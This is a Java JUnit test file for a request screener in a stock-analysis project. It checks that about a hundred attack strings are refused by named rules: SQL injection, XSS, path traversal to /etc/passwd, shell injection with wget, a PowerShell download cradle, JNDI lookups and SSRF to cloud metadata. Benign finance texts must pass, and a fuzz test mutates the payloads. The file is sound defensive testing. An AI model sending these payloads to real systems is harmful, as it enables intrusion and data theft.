package io.qilin.security.screening;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Cases of our own, so that a plain checkout tests what the large corpora test. */
class OwnCasesTest {
  static final List<String> SEEDS = List.of(
      "' or '1'='1",
      "1 union select null, user() from dual",
      "<svg/onload=alert(1)>",
      "../../etc/passwd",
      "; cat /etc/passwd",
      "${jndi:ldap://x.y/a}",
      "{{7*7}}",
      "%0d%0aSet-Cookie: a=b",
      "{\"$ne\": null}",
      "rO0ABXNyABF",
      "a=%u0027%20or%201=1--",
      "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
      "[[[[[[[[[[",
      "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx",
      "\u0000\ud800\uffff",
      "&#x3c;script&#x3e;");

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '`',
      ignoreLeadingAndTrailingWhitespace = true,
      value = {
        "' or '1'='1 ~ QS-SQL-08",
        "x' or 1=1 -- ~ QS-SQL-08",
        "1 or 1=1-- ~ QS-SQL-09",
        "1 union select password from users ~ QS-SQL-01",
        "1/**/union/**/select/**/1,2 ~ QS-SQL-01",
        "1 UnIoN/*!50000SeLeCt*/ 1,2 ~ QS-SQL-01",
        "%2527%2520or%25201%253D1-- ~ QS-SQL-08",
        "＇ or 1=1 -- ~ QS-SQL-08",
        "1; drop table users ~ QS-SQL-07",
        "1 and sleep(5) ~ QS-SQL-03",
        "'; waitfor delay '0:0:5'-- ~ QS-SQL-03",
        "exec master..xp_cmdshell 'dir' ~ QS-SQL-04",
        "select table_name from information_schema.tables ~ QS-SQL-05",
        "<script>alert(1)</script> ~ QS-XSS-01",
        "<ScRiPt src=//x> ~ QS-XSS-01",
        "%3Csvg/onload=alert(1)%3E ~ QS-XSS-01",
        "&lt;img src=x onerror=alert(1)&gt; ~ QS-XSS-03",
        "\\u003cscript\\u003e ~ QS-XSS-01",
        "java\tscript:alert(1) ~ QS-XSS-04",
        "document . cookie ~ QS-XSS-08",
        "[]+(![]+[]) ~ QS-XSS-09",
        "../../../../etc/passwd ~ QS-PATH-01",
        "..%c0%af..%c0%afetc/passwd ~ QS-PATH-08",
        "/proc/self/environ ~ QS-PATH-03",
        "c:\\boot.ini ~ QS-PATH-04",
        "/.git/config ~ QS-PATH-05",
        "php://filter/x ~ QS-PATH-06",
        "; cat /etc/passwd ~ QS-SH-01",
        "|| wget http://x.y ~ QS-SH-01",
        "; c'a't /etc/pas\\swd ~ QS-SH-01",
        "$(whoami) ~ QS-SH-04",
        "() { :; }; echo x ~ QS-SH-05",
        ";{cat,/etc/passwd} ~ QS-SH-04",
        "cat$IFS/etc/hosts ~ QS-SH-02",
        "& ping -n 1 127.0.0.1 & ~ QS-SH-01",
        "cmd.exe /c dir ~ QS-WIN-02",
        "p^owershell -enc AAAA ~ QS-WIN-02",
        "IEX (New-Object Net.WebClient).DownloadString('http://x') ~ QS-WIN-03",
        "${jndi:ldap://x.y/a} ~ QS-JAVA-03",
        "${${lower:j}ndi:ldap://x} ~ QS-JAVA-03",
        "java.lang.Runtime ~ QS-JAVA-01",
        "#{T(java.lang.System)} ~ QS-JAVA-04",
        "class.module.classLoader.x ~ QS-JAVA-04",
        "rO0ABXNyABFq ~ QS-JAVA-06",
        "{{7*'7'}} ~ QS-APP-09",
        "__proto__ ~ QS-APP-04",
        "[$ne] ~ QS-APP-05",
        "http://169.254.169.254/latest/meta-data/ ~ QS-APP-02",
        "gopher://x:25/ ~ QS-APP-02",
        "_$$ND_FUNC$$_function(){} ~ QS-APP-01",
        "d2hpbGUodHJ1ZSk7Cg== ~ QS-APP-07",
        "%0d%0aSet-Cookie: a=b ~ QS-HTTP-02",
        "x%0aGET /a HTTP/1.1 ~ QS-HTTP-01",
        "*)(uid=*))(|(uid=* ~ QS-HTTP-04",
        "a%00b ~ QS-HTTP-06",
        "'; desc users; -- ~ QS-SQL-07",
        ";drop users ~ QS-SQL-07",
        "1 except select 1 ~ QS-SQL-01",
        "1 union table users ~ QS-SQL-01",
        "1 and (select top 1 name from users)='a' ~ QS-SQL-02",
        "has_table_privilege('a','b') ~ QS-SQL-06",
        "pg_read_binary_file( ~ QS-SQL-06",
        "suser_sname() ~ QS-SQL-06",
        "'=0--+ ~ QS-SQL-08",
        "x' and email is null; -- ~ QS-SQL-08",
        "4294967296 ~ QS-SQL-12",
        "<button popovertarget=x onanything=y> ~ QS-XSS-02",
        "java\u0001script:x ~ QS-XSS-04",
        "[].find.constructor('x')() ~ QS-XSS-07",
        "<a @click=x> ~ QS-XSS-04",
        "javascript:x ~ QS-XSS-13",
        "x style=expression(y) ~ QS-XSS-05",
        "'-concat(0x41,1)-' ~ QS-SQL-09",
        "..%255c..%255cx ~ QS-PATH-08",
        "data/../../x ~ QS-PATH-09",
        ".cargo/credentials ~ QS-PATH-05",
        ";sort x ~ QS-SH-01",
        "x|nl y ~ QS-SH-01",
        "cscli alerts list ~ QS-SH-02",
        "x%0d%0aRCPT TO:<a@x.example> ~ QS-SH-12",
        "x%0d%0aA1 SELECT INBOX ~ QS-SH-12",
        "cmd/c dir ~ QS-WIN-02",
        "Test-Connection x ~ QS-WIN-03",
        "getClass().getClassLoader() ~ QS-JAVA-05",
        "<jsp:include page=x/> ~ QS-JAVA-04",
        "http://127.1/ ~ QS-APP-02",
        "http://[0:0:0:0:0:ffff:127.0.0.1]/ ~ QS-APP-02",
        "Object.prototype.x=1 ~ QS-APP-04",
        "'; return this.password.length > 0 || ' ~ QS-APP-05",
        "qx/id/ ~ QS-APP-06",
        "while(1==1){} ~ QS-APP-07",
        "for(;!0;){} ~ QS-APP-07",
        "{{config}} ~ QS-APP-09",
        "global['process'] ~ QS-APP-01",
        "(&(x=y)(z=w)) ~ QS-HTTP-04",
        "a@x.example%0aTo: b@x.example ~ QS-HTTP-02",
        "x%0a[INFO] logged in ~ QS-LOG-01",
        "%1b[31m ~ QS-LOG-02",
        "%252527 ~ QS-HTTP-09"
      })
  void whenATextIsAnAttack_thenItIsRefusedByTheRuleForIt(String text, String rule) {
    Verdict verdict = RequestScreener.DEFAULT.screenText("q", text);
    assertThat(verdict.findings()).extracting(Finding::rule).as(text).contains(rule);
    assertThat(verdict.refused()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Mean($close, 5) / Ref($close, 1) - 1",
        "if $close > Ref($close,1) and $volume > Mean($volume,5) then 1 else 0",
        "select the best 5 stocks from the list",
        "贵州茅台 600519.SH 涨停，封单 3 万手",
        "O'Neil's CAN SLIM and Graham's rules",
        "buy low; sell high",
        "P/E < 20 && P/B < 2 || ROE > 15%",
        "union members select a new leader",
        "drop in the table of prices",
        "data/2024/bars.csv",
        "https://example.com/news?id=5&page=2",
        "AT&T and S&P 500",
        "update: set a new high",
        "100% of 50%",
        "\"quoted\" text",
        "order by market value, top 10",
        "a -> b",
        "I <3 stocks",
        "R&D; M&A; T+1",
        "delete from 自选股",
        "{\"symbol\":\"600519.SH\",\"price\":1688.5,\"tags\":[\"a b\",\"c\"]}",
        "2024-01-02 09:30:00",
        "where volume > 5",
        "alert(价格)",
        "${close}",
        "time to buy; more to come",
        "exec summary",
        "x or y",
        "He said \"buy\" or \"hold\" = same thing to me",
        "the wildcard '*' and the sign '+' or '-'",
        "time; date; place; host: Ann",
        "date;time;open;high;low;last",
        "cash & carry; buy & hold; type & size",
        "ping me at 5 | net profit rose | set targets",
        "see `git status` or use `sort` for it",
        "| [health](ops.md) | the probe | yes | report it |",
        "run pip install qilin, then python main.py --symbol 600519.SH",
        "PATH is searched along $PATH)",
        "theme=dark; online=1; onboarding=true",
        "alert(high)",
        "Alert(price>100) triggers at 9:30",
        "send to 0x71C7656EC7ab88b098defB751B7401B5f6d8976F",
        "Mozilla/5.0 MicroMessenger/8.0.44(0x18002c2d) NetType/WIFI",
        "password (required), version (2) of the database (draft)",
        "C:\\Users\\ann\\Documents\\orders 2024.csv",
        "src/main/java/io/qilin/core/Factor.java",
        "the keys of application.yml and package.json",
        "java.util.concurrent.TimeoutException: no answer",
        "Caused by: java.io.IOException: Connection reset",
        "From: Ann\nTo: Bob\n\nThe data: see below",
        "Agenda:\nDate: 5 May\nLocation: room 7",
        "http://192.168.1.5:8080/quote",
        "wss://stream.example.com:9443/ws",
        "{open,high,low,close}",
        "if x == y then buy",
        "Return a new socket or a new file object"
      })
  void whenATextIsHarmless_thenItPasses(String text) {
    Verdict verdict = RequestScreener.DEFAULT.screenText("q", text);
    assertThat(verdict.refused()).as("%s", verdict.findings()).isFalse();
  }

  @Test
  void whenMembersLeadToAPrototype_thenTheyAreAnAttackOnlyTogether() {
    assertThat(RequestScreener.DEFAULT
            .screenText("q", "{\"constructor\":{\"prototype\":{\"admin\":true}}}")
            .refused())
        .isTrue();
    assertThat(
            RequestScreener.DEFAULT.screenText("q", "{\"constructor\":\"Ann\"}").refused())
        .isFalse();
  }

  @Test
  void whenASlashIsEncodedAsFormsDo_thenOnlyInThePathItIsHidden() {
    assertThat(RequestScreener.DEFAULT.screen(
            ScreenedRequest.builder("GET", "/a?file=..%2Fdata%2Fa.csv").build()))
        .extracting(Verdict::refused)
        .isEqualTo(false);
    assertThat(RequestScreener.DEFAULT.screen(
            ScreenedRequest.builder("GET", "/files/..%2Fdata").build()))
        .extracting(Verdict::refused)
        .isEqualTo(true);
  }

  @Test
  void whenTextsAreMutated_thenOnlyVerdictsComeBack() {
    Random random = new Random(42);
    List<RequestScreener> screeners = Arrays.stream(new int[] {1, 2, 3, 4})
        .mapToObj(level -> RequestScreener.builder().paranoia(level).build())
        .toList();
    for (int i = 0; i < 300; i++) {
      String text = mutated(random);
      RequestScreener screener = screeners.get(i % 4);
      assertThat(screener.screenText("f", text).outcome())
          .as(text)
          .isNotEqualTo(Verdict.Outcome.REFUSE_FAILURE);
      String type = List.of(
              "application/json",
              "text/xml",
              "multipart/form-data; boundary=b",
              "application/x-www-form-urlencoded",
              "")
          .get(i % 5);
      ScreenedRequest request = ScreenedRequest.builder("POST", "/a?" + text)
          .header("Content-Type", type)
          .header("Cookie", text)
          .body(text.getBytes(java.nio.charset.StandardCharsets.UTF_8))
          .build();
      assertThat(screener.screen(request).outcome())
          .as(text)
          .isNotEqualTo(Verdict.Outcome.REFUSE_FAILURE);
    }
  }

  private static String mutated(Random random) {
    StringBuilder text = new StringBuilder(SEEDS.get(random.nextInt(SEEDS.size())));
    for (int i = random.nextInt(8); i > 0; i--) {
      int at = text.isEmpty() ? 0 : random.nextInt(text.length());
      switch (random.nextInt(5)) {
        case 0 -> text.insert(at, SEEDS.get(random.nextInt(SEEDS.size())));
        case 1 -> text.delete(at, Math.min(text.length(), at + random.nextInt(5)));
        case 2 -> text.insert(at, (char) random.nextInt(0x10000));
        case 3 -> text.insert(at, "%\\&<>'\"`$({[/*".charAt(random.nextInt(14)));
        default -> text.insert(at, text.substring(at));
      }
    }
    return text.length() > 4000 ? text.substring(0, 4000) : text.toString();
  }
}
